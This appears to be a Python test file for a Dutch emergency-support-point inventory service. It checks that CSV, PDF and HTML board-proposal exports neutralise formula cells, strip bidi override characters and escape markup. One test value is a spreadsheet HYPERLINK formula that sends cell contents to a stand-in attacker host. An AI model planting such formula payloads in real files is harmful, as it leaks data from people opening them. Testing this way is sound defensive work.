"""The round's board proposal as documents (HTML, PDF, CSV for Excel), and what a CSV
import can smuggle in: formula cells come out neutralised, right-to-left overrides never
come out (and are not stored)."""

from __future__ import annotations

import csv
import io
import re

from pypdf import PdfReader

from shared.documents import excel_csv
from tests.support import tokens

OSS = "GM0828"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")'
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f]")


def upload(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(["name", "layer", "readiness", "public", "address", "services"])
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


async def test_the_board_proposal_is_a_dutch_document_and_a_safe_spreadsheet(inventory):
    region, oss = tokens.region("VR21"), tokens.municipality(OSS)
    opened = await inventory.client.post("/regions/VR21/rounds", json={"title": "Inventarisatie documenten",
                                                                       "deadline": "2026-12-31"}, headers=region)
    assert opened.status_code == 201, opened.text
    round_id = opened.json()["id"]
    imported = await inventory.client.post(f"/municipalities/{OSS}/noodsteunpunten/import", headers={
        **oss, "Content-Type": "text/csv"}, content=upload([
            [FORMULA, "local", "planned", "ja", "Kerkstraat 1, Oss", "information"],
            ["Buurthuis \u202eVIGILANT\u202c De Ruwaard", "local", "agreed", "ja", "Ruwaardstraat 2\u2066, Oss", "information|warmth"],
            ["@Sporthal Oss", "regional", "planned", "nee", "", "information"],
        ]))
    assert imported.status_code == 201, imported.text
    names = {n["name"] for n in (await inventory.client.get(f"/municipalities/{OSS}/noodsteunpunten", headers=oss)).json()["items"]}
    assert "Buurthuis VIGILANT De Ruwaard" in names and not any(BIDI.search(n) for n in names), names
    assert (await inventory.client.post(f"/rounds/{round_id}/submissions/{OSS}", json={}, headers=oss)).status_code == 201

    spreadsheet = await inventory.client.get(f"/rounds/{round_id}/proposal.csv", headers=region)
    assert spreadsheet.status_code == 200 and spreadsheet.headers["content-type"].startswith("text/csv")
    content = spreadsheet.content
    assert content.startswith("\ufeff".encode()), "the byte-order mark Excel needs to read UTF-8"
    assert content.decode("utf-8").splitlines()[0].lstrip("\ufeff").split(";")[:3] == ["Gemeente", "Noodsteunpunt", "Laag"]
    rows = {r["Noodsteunpunt"]: r for r in excel_csv.read_rows(content)}
    assert "'" + FORMULA in rows and FORMULA not in rows, "a formula cell is shown as text, never run"
    assert "'@Sporthal Oss" in rows and rows["'@Sporthal Oss"]["Laag"] == "regionaal"
    assert rows["Buurthuis VIGILANT De Ruwaard"]["Gereedheid"] == "afgesproken"
    assert not BIDI.search(content.decode("utf-8"))

    document = await inventory.client.get(f"/rounds/{round_id}/proposal.pdf", headers=region)
    assert document.status_code == 200 and document.headers["content-type"] == "application/pdf"
    text = " ".join(" ".join(page.extract_text() for page in PdfReader(io.BytesIO(document.content)).pages).split())
    for fact in ("Voorstel aan het Algemeen Bestuur", "Inventarisatie documenten", "Buurthuis VIGILANT De Ruwaard",
                 "Dekking per gemeente", "'s-Hertogenbosch"):
        assert fact in text, fact
    web = await inventory.client.get(f"/rounds/{round_id}/proposal.html", headers=tokens.national())
    assert "script-src" not in web.headers["content-security-policy"]  # default-src 'none': no script at all
    assert "style-src 'unsafe-inline'" in web.headers["content-security-policy"]  # the inline house style shows
    page = web.text
    assert "Buurthuis VIGILANT De Ruwaard" in page and "&#34;Klik hier&#34;" in page  # escaped, never markup
    for path in ("proposal.html", "proposal.pdf", "proposal.csv"):
        assert (await inventory.client.get(f"/rounds/{round_id}/{path}", headers=oss)).status_code == 403
        assert (await inventory.client.get(f"/rounds/{round_id}/{path}", headers=tokens.region("VR01"))).status_code == 404
